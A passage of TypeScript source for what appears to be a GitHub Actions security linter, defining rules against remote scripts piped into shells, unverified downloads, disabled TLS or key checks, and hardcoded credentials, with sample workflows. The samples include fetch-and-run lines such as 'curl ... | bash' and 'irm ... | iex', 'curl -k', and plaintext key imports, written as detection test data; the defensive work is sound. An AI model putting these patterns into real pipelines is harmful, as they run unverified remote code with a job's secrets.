    const publicTriggers = [...wf.triggers.keys()].filter((t) => PUBLIC_TRIGGERS.has(t));
    if (publicTriggers.length === 0) return;
    for (const job of wf.jobs) {
      const p = pair(job.node, 'runs-on');
      if (!p || !runsOnLabels(p.value).some((l) => /self-hosted/i.test(l))) continue;
      const base = `${jobLabel(job)} runs on a self-hosted runner for ${publicTriggers.join(', ')} events`;
      const fromPullRequest = publicTriggers.filter((t) => WORKFLOW_FROM_PULL_REQUEST.has(t));
      const gates = publicTriggers.filter((t) => !WORKFLOW_FROM_PULL_REQUEST.has(t) && runsFor(t, job)).map((t) => jobGateOf(wf, job, t));
      const hit = { line: p.keyLine, resource: jobLabel(job) };
      if (fromPullRequest.length > 0 || gates.some((g) => !g)) {
        const gated = fromPullRequest.length > 0 && jobGateOf(wf, job, fromPullRequest[0]!);
        const note = gated ? ` (${gated.why}, but a fork's ${fromPullRequest[0]} runs the workflow file of its own pull request, which can drop that)` : '';
        yield { ...hit, message: `${base}${note}.` } satisfies Hit;
        continue;
      }
      const maintainer = gates.find((g) => g!.kind === 'maintainer');
      const held = maintainer ?? gates.find((g) => g!.via === 'step');
      if (held) yield { ...hit, message: `${base}, but ${held.why}, so ${GATED[held.kind]}.`, severity: maintainer ? 'medium' : 'low' } satisfies Hit;
    }
  },
});

const curlPipeShell = workflowRule({
  id: 'iac/gha-curl-pipe-shell',
  title: 'Remote script piped into a shell in CI',
  description: '`curl ... | sh` in a workflow runs whatever the server returns, with the job\'s token and secrets, with no integrity check; so does, in a PowerShell step (`shell: pwsh`, or no shell on a Windows runner, whose default is pwsh), a download given to Invoke-Expression (`irm https://... | iex`, `iex ((New-Object Net.WebClient).DownloadString(\'https://...\'))`), and a POSIX script such a step hands to bash (`bash -c "..."`) is read as one. Medium, as a downloaded file run without a check (iac/gha-download-unverified); high over plain http://, where anyone on the network path can replace the script. The shell scripts of the repository that a step runs (`run: ./scripts/release.sh`, `bash .github/scripts/publish.sh`) are read and judged too, on their own lines.',
  remediation: 'Use a pinned action or download the script, verify a pinned checksum, then run it.',
  severity: 'medium',
  cwe: ['CWE-494'],
  examples: {
    positive: [
      workflow('      # expect\n      - run: |\n          # detail\n          curl -fsSL https://example.org/install.sh | bash\n'),
      // A Windows runner's default shell is PowerShell, which runs a download with Invoke-Expression.
      "name: ci\non: push\npermissions: {}\njobs:\n  build:\n    runs-on: windows-latest\n    steps:\n      # expect\n      - run: |\n          # detail\n          iex ((New-Object Net.WebClient).DownloadString('https://example.org/install.ps1'))\n",
      workflow('      - shell: pwsh\n        # expect\n        run: irm https://example.org/install.ps1 | iex\n'),
    ],
    negative: [
      workflow('      - run: curl -fsSLo install.sh https://example.org/install.sh && sha256sum -c install.sha256 && bash install.sh\n'),
      // A script downloaded, checked, then run.
      "name: ci\non: push\npermissions: {}\njobs:\n  build:\n    runs-on: [self-hosted, windows]\n    steps:\n      - run: |\n          Invoke-WebRequest -Uri https://example.org/install.ps1 -OutFile install.ps1\n          if ((Get-FileHash install.ps1).Hash -ne $env:INSTALL_SHA256) { throw 'checksum mismatch' }\n          ./install.ps1\n",
    ],
  },
  *check(wf) {
    for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
      if (kind !== 'run') continue;
      for (const part of runParts(wf, step)) {
        for (const { offset, plainHttp, runner } of pipedDownloadSites(part.text, part.dialect)) {
          const at = inside(keyLine, lineOfOffset(wf, scalar, part.at(offset), keyLine));
          const how = runner ? `runs a downloaded script with ${runner}` : 'pipes a downloaded script into a shell';
          yield { ...at, message: `${stepLabel(step)} ${how}${plainHttp ? PLAIN_HTTP_PIPE_NOTE : ''}${detailNote(at)}.`, resource: stepLabel(step), ...(plainHttp ? { severity: 'high' as const } : {}) };
        }
      }
    }
  },  scripts: PIPED_DOWNLOAD_IN_SCRIPT,
});

const downloadUnverified = workflowRule({
  id: 'iac/gha-download-unverified',
  title: 'Downloaded script or binary run without a checksum or signature check in CI',
  description:
    "A job downloads a file in a `run:` step (with curl or wget, `gh release download` of another repository's release, or, in a PowerShell step, Invoke-WebRequest -OutFile or WebClient.DownloadFile) and then runs it, in that step or a later one (`ruby trigger.rb`, `bash install.sh`, `./tool` after `chmod +x`, `& .\\setup.exe` or Start-Process, a program of the archive it unpacked, `cd tool-1.2 && ./configure && make install`, `dpkg -i`, `pip install` or `msiexec /i` of a package, a program by its name once its folder is put on PATH with $GITHUB_PATH; a program put on PATH and not run by name, as by a virtualenv's activate script, is reported with the line that does so), and no step of the job checks it (sha256sum/shasum, gpg --verify, cosign, minisign, an openssl digest, gh attestation verify, Get-FileHash; a checksum tool counts when its digest is compared (-c, a pipe into grep, a test of its output), not when it only prints or writes one). `gh release download` checks nothing by itself. HTTPS protects the transfer, not the file: whoever can change the release or the branch it is fetched from (a compromised upstream account or mirror, a moving `master` or `latest` link) runs code in the job, with its token and secrets. A file fetched at a git commit named by its full hash is not reported; neither is a download that is only read (a JSON file for jq), unpacked, listed or uploaded. High over plain http:// to another machine, where anyone on the network path can replace what runs, as for a script piped into a shell. Piping a download into a shell is iac/gha-curl-pipe-shell. The shell scripts of the repository that a step runs are judged too, on their own lines.",
  remediation: 'Pin the version and check a pinned digest before running the file (echo "<sha256>  tool.tar.gz" | sha256sum -c -), or the publisher\'s signature (gpg --verify, cosign verify-blob, gh attestation verify); or use a pinned action that installs the tool.',
  severity: 'medium',
  confidence: 'medium',
  cwe: ['CWE-494'],
  examples: {
    positive: [
      workflow('      # expect\n      - run: |\n          # detail\n          curl -fsSLo trigger.rb https://example.org/raw/master/trigger.rb\n          ruby trigger.rb\n'),
      // Downloaded in one step, run in a later one.
      workflow('      # expect\n      - run: curl -fsSL https://example.org/releases/hugo_0.128.0_linux-amd64.tar.gz | tar -xz\n      - run: ./hugo --minify\n'),
      // Over plain http (reported as high).
      workflow('      # expect\n      - run: curl -fsSLo setup.sh http://example.org/setup.sh && bash setup.sh\n'),
      workflow('      # expect\n      - run: wget -q https://example.org/dist/app_2.0.1_amd64.deb && sudo dpkg -i app_2.0.1_amd64.deb\n'),
      // A digest only printed to the log checks nothing (curl/curl's workflows print one, then build the archive).
      workflow('      # expect\n      - run: |\n          # detail\n          curl -fsSLO https://example.org/dist/tool-1.0.tar.gz\n          sha256sum tool-1.0.tar.gz\n          tar -xzf tool-1.0.tar.gz\n          cd tool-1.0 && ./configure && make install\n'),
      // A release asset of another repository, which gh downloads unchecked.
      workflow("      # expect\n      - run: |\n          # detail\n          gh release download v2.4.0 --repo example/tool --pattern 'tool_*_linux_amd64.tar.gz'\n          tar -xzf tool_*_linux_amd64.tar.gz\n          ./tool version\n        env:\n          GH_TOKEN: ${{ github.token }}\n"),
      // A PowerShell step (a Windows runner's default shell).
      workflow("      - shell: pwsh\n        # expect\n        run: |\n          # detail\n          Invoke-WebRequest -Uri https://example.org/releases/setup-1.2.0.exe -OutFile setup.exe\n          Start-Process .\\setup.exe -ArgumentList '/S' -Wait\n"),
      // A source archive built in the folder it unpacks into.
      workflow('      # expect\n      - run: curl -fsSLO https://example.org/dist/tool-1.2.0.tar.gz && tar -xzf tool-1.2.0.tar.gz && cd tool-1.2.0 && ./configure && make && sudo make install\n'),
      // A program put on PATH for the later steps, run there by its name.
      workflow('      # expect\n      - run: |\n          # detail\n          curl -fsSLo "$RUNNER_TEMP/tool" https://example.org/releases/tool-linux-amd64\n          chmod +x "$RUNNER_TEMP/tool"\n          echo "$RUNNER_TEMP" >> "$GITHUB_PATH"\n      - run: tool lint .\n'),
    ],
    negative: [
      workflow('      - run: curl -fsSLo install.sh https://example.org/install.sh && sha256sum -c install.sh.sha256 && bash install.sh\n'),
      // Data read by jq, and an archive only uploaded: nothing downloaded runs.
      workflow('      - run: |\n          curl -fsSL -o release.json https://example.org/api/releases/latest\n          jq -r .tag_name release.json\n          curl -fsSLO https://example.org/dist/site.tar.gz\n      - uses: actions/upload-artifact@b4b15b8c7c6ac21ea08fcf65892d2ee8f75cf882 # v4.4.3\n        with:\n          name: site\n          path: site.tar.gz\n'),
      // A package manager installing from its registry is not a download this rule follows.
      workflow('      - run: pip install -r requirements.txt && npm ci\n'),
      // An asset of the workflow's own releases; another's, with its attestation checked.
      workflow("      - run: gh release download --pattern 'tool_*_linux_amd64.tar.gz' && tar -xzf tool_*_linux_amd64.tar.gz && ./tool version\n      - run: |\n          gh release download v2.4.0 --repo example/other --pattern 'other.tar.gz'\n          gh attestation verify other.tar.gz --repo example/other\n          tar -xzf other.tar.gz && ./other version\n"),
      // Checked with Get-FileHash before it runs.
      workflow("      - shell: pwsh\n        run: |\n          Invoke-WebRequest -Uri https://example.org/releases/setup-1.2.0.exe -OutFile setup.exe\n          if ((Get-FileHash setup.exe -Algorithm SHA256).Hash -ne '0000000000000000000000000000000000000000000000000000000000000000') { throw 'checksum mismatch' }\n          Start-Process .\\setup.exe -ArgumentList '/S' -Wait\n"),
      // A later step starts at the workspace root again; a folder on PATH that holds no download.
      workflow('      - run: curl -fsSLO https://example.org/dist/tool-1.2.0.tar.gz && tar -xzf tool-1.2.0.tar.gz && cd tool-1.2.0\n      - run: ./configure && make\n      - run: |\n          curl -fsSLo "$RUNNER_TEMP/dl/tool" https://example.org/releases/tool-linux-amd64\n          echo "$RUNNER_TEMP/bin" >> "$GITHUB_PATH"\n      - run: tool lint .\n'),
    ],
  },
  *check(wf) {
    for (const job of wf.jobs) {
      // Each step runs in a shell of its own, from its working-directory (one not known as written leads nowhere the others do).
      const scripts = job.steps
        .filter((step) => step.run && typeof step.run.value === 'string')
        .map((step) => {
          const shell = runShell(wf, step);
          return { step, scalar: step.run!, keyLine: step.runLine!, text: step.run!.value as string, dialect: shell.dialect, fresh: true, cwd: shell.cwd ?? `?step${step.index}` };
        });
      for (const found of downloadRunsIn(scripts)) {
        const { step, scalar, keyLine } = found.downloadIn;
        const at = inside(keyLine, lineOfOffset(wf, scalar, found.download, keyLine));
        const runLine = lineOfOffset(wf, found.runIn.scalar, found.run, found.runIn.keyLine);
        const where = found.runIn.step === step ? `on line ${runLine}` : `in ${stepLabel(found.runIn.step)} on line ${runLine}`;
        yield { ...at, message: `${stepLabel(step)} downloads ${found.file} with ${found.program}${detailNote(at)} and ${found.action} ${where} (${found.how}) with no checksum or signature check${found.plainHttp ? PLAIN_HTTP_PIPE_NOTE : ''}; verify a pinned sha256 or the publisher's signature first.`, resource: stepLabel(step), ...(found.plainHttp ? { severity: 'high' as const } : {}) };
      }
    }
  },
  scripts: UNVERIFIED_RUN_IN_SCRIPT,
});

const tlsDisabled = workflowRule({
  id: 'iac/gha-tls-verification-disabled',
  title: 'TLS or signature verification disabled in CI',
  description: 'A workflow script turns off certificate or package signature verification (curl -k, pip --trusted-host, apt --allow-unauthenticated...). A network attacker can then feed the build, which holds secrets and a token, whatever they like. A package signing key fetched over plain http:// and installed as trusted (`wget -qO - http://... | apt-key add -`, `| gpg --dearmor -o /usr/share/keyrings/x.gpg`, `rpm --import http://...`) defeats the signature checks of every package installed after it, as anyone on the network path can sign them; a key fetched over https, or a script that checks a fingerprint or signature itself (gpg --fingerprint, gpg --verify), is not reported. So is one fetched from a keyserver in plain text (hkp:// on any port, http://, or a bare name, which gpg reaches over hkp) by a short or long key id (`apt-key adv --keyserver hkp://keyserver.ubuntu.com:80 --recv-keys 7EA0A9C3`), as anyone can make a key that carries that id; by its full 40-hex fingerprint, which gpg checks on receipt, it is not reported. The shell scripts of the repository that a step runs (`run: ./scripts/release.sh`, `bash .github/scripts/publish.sh`) are read and judged too, on their own lines.',
  remediation: 'Keep verification on; trust a private CA explicitly if one is involved.',
  severity: 'high',
  cwe: ['CWE-295', 'CWE-494'],
  examples: {
    positive: [
      workflow('      # expect\n      - run: curl -k https://example.org/tool -o tool\n'),
      // A signing key fetched over plain http and trusted.
      workflow('      # expect\n      - run: wget -qO - http://example.org/pubkey.gpg | sudo apt-key add -\n'),
      // A command continued over lines is read as one.
      workflow('      # expect\n      - run: |\n          # detail\n          curl -fsSL \\\n            http://example.org/key.asc | sudo apt-key add -\n'),
      // A key by its short id from a keyserver in plain text.
      workflow('      # expect\n      - run: sudo apt-key adv --keyserver hkp://keyserver.example.org:80 --recv-keys 7EA0A9C3\n'),
    ],
    negative: [
      workflow('      - run: curl -fsSL https://example.org/tool -o tool\n'),
      workflow('      - run: curl -fsSL https://example.org/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg\n'),
      workflow('      - run: sudo apt-key adv --keyserver hkp://keyserver.example.org:80 --recv-keys 0123456789ABCDEF0123456789ABCDEF01234567\n'),
      // PowerShell's switches in a bash step are text (a lint forbidding them); a pwsh step would read them.
      workflow('      - run: \'! grep -rn -e "Invoke-WebRequest .* -SkipCertificateCheck" scripts/\'\n'),
    ],
  },
  *check(wf) {
    const jobOf = new Map(wf.jobs.flatMap((job) => job.steps.map((step) => [step, job.steps.map((s) => (typeof s.run?.value === 'string' ? s.run.value : '')).join('\n')] as const)));
    for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
      if (kind !== 'run') continue;
      for (const hit of verificationOff(scalar.value as string, runDialect(wf, step), jobOf.get(step))) {
        const at = inside(keyLine, lineOfOffset(wf, scalar, hit.offset, keyLine));
        yield { ...at, message: `${stepLabel(step)}: ${hit.what}${detailNote(at)} turns off verification.`, resource: stepLabel(step) };
      }
    }
  },  scripts: VERIFICATION_OFF_IN_SCRIPT,
});

/** An address on the runner itself, alone or as a URL's host: localhost, 127.x.x.x, ::1. */
const LOOPBACK = /^(?:[a-z][\w+.-]*:\/\/)?(?:[^@/\s]*@)?(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]|::1)(?::\d+)?(?:\/\S*)?$/i;

/**
 * A host setting whose value is a path (`SYNAPSE_POSTGRES_HOST: /var/run/postgresql`,
 * `DB_SOCKET: /run/mysqld/mysqld.sock`): a Unix socket, which only a server on the runner
 * itself listens on.
 */
const onRunner = (key: string, value: string): boolean =>
  LOOPBACK.test(value) || (/^(?:host|socket|sock)$/.test(nameTokens(key).at(-1) ?? '') && /^\/[\w.-]+(?:\/[\w.-]+)*\/?$/.test(value));

/** The words of a cache action's input that names the cache entry: `key`, `shared-key`, `prefix-key`, `save-key`. */
const CACHE_KEY_WORDS = new Set(['key', 'keys', 'shared', 'prefix', 'cache', 'save', 'restore', 'primary']);

/**
 * The secret an application signs its own sessions or tokens with (NextAuth's, Rails'
 * secret_key_base, Django's SECRET_KEY, a JWT or session secret), not a credential for
 * another system.
 */
const APP_SIGNING_SECRET = /^(?:NEXTAUTH_SECRET|AUTH_SECRET|BETTER_AUTH_SECRET|SECRET_KEY_BASE|(?:DJANGO_|FLASK_|APP_)?SECRET_KEY|(?:JWT|SESSION|COOKIE)_SECRET(?:_KEY)?)$/i;

const hardcodedSecret = workflowRule({
  id: 'iac/gha-hardcoded-secret',
  title: 'Credential written in the workflow',
  description: 'An env variable, action input or container credential with a secret-looking name has a literal value in the workflow file, so it is in version control and visible to everyone who can read the repository. Low for the signing secret of the application under test (NEXTAUTH_SECRET, SECRET_KEY_BASE, a JWT or session secret) set for a job that only tests (by its id or name, or its commands) and publishes and deploys nothing: it guards only the instance the job runs. Low also when the same env block points at a server on the runner itself (a host or URL on localhost or 127.0.0.1, or a host or socket setting that is a path: a Unix socket such as /var/run/postgresql): most likely a test server the job starts, unless it is a tunnel to a real one. A value that a comment on its line (or a comment line above it) tells the reader to replace (`API_TOKEN: 3f9a...  # replace with your token`) is not reported: like a value written as a fill-in (`your-api-key-here`), it is a placeholder.',
  remediation: 'Store it as an encrypted secret and reference it: `${{ secrets.NAME }}`.',
  severity: 'high',
  cwe: ['CWE-798'],
  placeholderComments: true,
  examples: {
    positive: [
      workflow('      - uses: docker/login-action@9780b0c442fbb1117ed29e0efdff1e18412f7567 # v3.3.0\n        with:\n          username: ci\n          # expect\n          password: hunter2-hunter2\n'),
      // The same input name on an action that is no cache is a storage account's shared key.
      workflow('      - uses: example/upload-to-storage@98c8021b550208e191a6a3145459bfc9fb29c4c0 # v1.0.0\n        with:\n          # expect\n          shared-key: hunter2-hunter2\n'),
      // A cache action's credential for its own store is one.
      workflow('      - uses: example/actions-cache-s3@98c8021b550208e191a6a3145459bfc9fb29c4c0 # v1.0.0\n        with:\n          key: deps-linux\n          # expect\n          aws-secret-access-key: hunter2-hunter2\n'),
      'name: ci\non: push\npermissions: {}\nenv:\n  # expect\n  API_TOKEN: abcd1234abcd1234\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
      // The same signing secret in a job that deploys is the deployment's.
      'name: ci\non: push\npermissions: {}\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    env:\n      # expect\n      NEXTAUTH_SECRET: supersecret\n    steps:\n      - run: pnpm build && pnpm test:e2e\n      - uses: cloudflare/wrangler-action@da0e0dfe58b7a431659754fdf3f186c529afbe65 # v3.14.1\n',
      // The comment of the variable above, and a note to rotate the key, mark no placeholder.
      workflow('      - run: ./deploy.sh\n        env:\n          DB_PASSWORD: hunter2-hunter2 # replace with your password\n          # expect\n          API_TOKEN: abcd1234abcd1234 # replace with a new token every 90 days\n'),
    ],
    negative: [
      workflow('      - uses: docker/login-action@9780b0c442fbb1117ed29e0efdff1e18412f7567 # v3.3.0\n        with:\n          password: ${{ secrets.REGISTRY_PASSWORD }}\n'),
      // The cache entry a cache action saves and restores, shared between jobs by its name.
      workflow('      - uses: Swatinem/rust-cache@98c8021b550208e191a6a3145459bfc9fb29c4c0 # v2.8.0\n        with:\n          shared-key: linux-debug\n'),
      // Playwright's PW_ prefix: a test tag, not a password.
      workflow('      - run: npm run test\n        env:\n          PW_TAG: "@vscode-extension"\n'),
      // The variables cibuildwheel passes into its build container, not a password.
      workflow('      - uses: pypa/cibuildwheel@1828c10ab37f080699c7b81cea34097c684a7074 # v3.2.0\n        env:\n          CIBW_ENVIRONMENT_PASS_LINUX: >-\n            CCACHE_BASEDIR\n            CCACHE_COMPILERCHECK\n'),
      // The token of a throw-away server the job starts itself, set in that service's env.
      'name: e2e\non: push\npermissions: {}\njobs:\n  kms:\n    runs-on: ubuntu-latest\n    services:\n      vault:\n        image: hashicorp/vault:1.18.1\n        env:\n          VAULT_DEV_ROOT_TOKEN_ID: ci-dev-root\n    env:\n      VAULT_TOKEN: ci-dev-root\n    steps:\n      - run: ./e2e.sh\n',
      // A value that a comment beside it tells the reader to replace: a placeholder.
      workflow('      - uses: example/notify@98c8021b550208e191a6a3145459bfc9fb29c4c0 # v1.0.0\n        with:\n          api-key: 3f9a0c7e21d4b5a6 # replace with your API key\n'),
      'name: ci\non: push\npermissions: {}\nenv:\n  # Put your token here (or better, a secret)\n  API_TOKEN: abcd1234abcd1234\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
    ],
  },
  *check(wf) {
    /** Values set in the env of a job's service or job container: settings of containers the job starts itself. */
    const containerValues = (job: Job): Set<string> => {
      const out = new Set<string>();
      const services = get(job.node, 'services');
      const envs = [get(job.node, 'container', 'env'), ...(isYMap(services) ? services.pairs.map((service) => get(service.value, 'env')) : [])];
      for (const env of envs) for (const p of isYMap(env) ? env.pairs : []) if (isYScalar(p.value) && p.value.value !== null) out.add(String(p.value.value));
      return out;
    };
    /** `shared-key`, `prefix-key`: an input of a cache action that names the cache entry (not its store's `aws-secret-access-key`). */
    const cacheKeyInput = (step: Step, input: string) => isCacheAction(step) && /^keys?$/.test(nameTokens(input).at(-1) ?? '') && nameTokens(input).every((t) => CACHE_KEY_WORDS.has(t));
    /**
     * An input of an action that names a cache entry (`shared-key: linux-debug`): a cache
     * action's, or a local composite action's that only hands it on to such an input.
     */
    const namesCacheEntry = (step: Step, input: string): boolean => {
      if (cacheKeyInput(step, input)) return true;
      const found = wf.callers?.inputSinks?.(wf, step, input);
      return found !== undefined && !found.elsewhere && found.sinks.length > 0 && found.sinks.every((sink) => cacheKeyInput(sink.step, sink.input));
    };
    const maps: Array<{ map: YMap; local: Set<string>; step?: Step; tests?: boolean }> = [];
    const push = (node: ReturnType<typeof get>, local: Set<string>, step?: Step, tests?: boolean) => {
      if (isYMap(node)) maps.push({ map: node, local, ...(step ? { step } : {}), ...(tests ? { tests } : {}) });
    };
    const everyJob = new Set(wf.jobs.flatMap((job) => [...containerValues(job)]));
    const testJobs = new Set(wf.jobs.filter((job) => !get(job.node, 'uses') && checksOnly(wf, job)));
    push(get(wf.root, 'env'), everyJob, undefined, wf.jobs.length > 0 && wf.jobs.every((job) => testJobs.has(job)));
    for (const job of wf.jobs) {
      const local = containerValues(job);
      const tests = testJobs.has(job);
      push(get(job.node, 'env'), local, undefined, tests);
      push(get(job.node, 'container', 'credentials'), new Set());
      for (const service of isYMap(get(job.node, 'services')) ? (get(job.node, 'services') as YMap).pairs : []) push(get(service.value, 'credentials'), new Set());
      for (const step of job.steps) {
        push(get(step.node, 'env'), local, undefined, tests);
        push(step.with, local, step);
      }
    }
    for (const { map, local, step, tests } of maps) {
      // A host or URL on the runner itself beside the credential: a server the job starts (a MinIO, a database), or a tunnel.
      const loopback = map.pairs.find((p) => isYScalar(p.value) && typeof p.value.value === 'string' && onRunner(p.key, p.value.value.trim()));
      for (const p of map.pairs) {
        const value = isYScalar(p.value) ? p.value.value : undefined;
        // A value the job also gives a service container (a dev server's root token) opens only that throw-away container.
        if (!isSecretName(p.key) || !isLiteralSecretValue(value) || local.has(String(value))) continue;
        // `shared-key: linux-debug` of a cache action names the cache entry that jobs share.
        if (step && namesCacheEntry(step, p.key)) continue;
        if (tests && APP_SIGNING_SECRET.test(p.key))
          yield { line: p.keyLine, message: `${p.key} holds a literal signing secret of the application a test job runs on the runner (the job publishes and deploys nothing): it guards only that throw-away instance; if the same value serves a deployment, store it as a secret.`, secret: String(value), severity: 'low' } satisfies Hit;
        else if (loopback)
          yield { line: p.keyLine, message: `${p.key} holds a literal credential in the workflow file, for a server on the runner itself (${loopback.key}: ${String((loopback.value as { value: string }).value).trim()}): most likely one the job starts for its tests; if it is a tunnel to a real one, store it as a secret.`, secret: String(value), severity: 'low' } satisfies Hit;
        else yield { line: p.keyLine, message: `${p.key} holds a literal credential in the workflow file.`, secret: String(value) } satisfies Hit;
      }
    }
  },
});

export const githubRules: readonly WorkflowRule[] = [
  templateInjection,
  untrustedCheckout,
  unpinnedAction,
  missingPermissions,
  writeAll,
  broadPermissions,
  secretInRun,
  secretsToJson,
  persistCredentials,
  unsecureCommands,
  githubEnvInjection,
  selfHostedPublic,
  curlPipeShell,
  downloadUnverified,
  tlsDisabled,
  hardcodedSecret,
  dangerousTrigger,
  spoofableBotCheck,
  alwaysTrueCondition,
  cachePoisoning,
  unpinnedContainerImage,
  longLivedPublishToken,
  unsoundContainsRule,
  unredactedSecret,
  archivedAction,
  unpinnedTool,
  cmdShell,
  setupPythonPipInstall,
  typosquattedAction,
  obfuscatedUses,
  forbiddenUses,
  constantExpression,
  unsoundTernary,
  broadAppToken,
  unpinnedPackageInstall,
  environmentPrinted,
  passwordArgument,
];

export const githubPlatform: PlatformRules<Workflow> = {
  platform: 'github-actions',
  parse(text, warn, context) {
    const workflow = readWorkflow(text, warn, context);
    for (const problem of unreadableGithubScripts((workflow?.jobs ?? []).flatMap((job) => job.steps))) warn(problem.line, problem.message);
    return workflow;
  },
  rules: githubRules,  localScripts: githubScriptRuns,
};
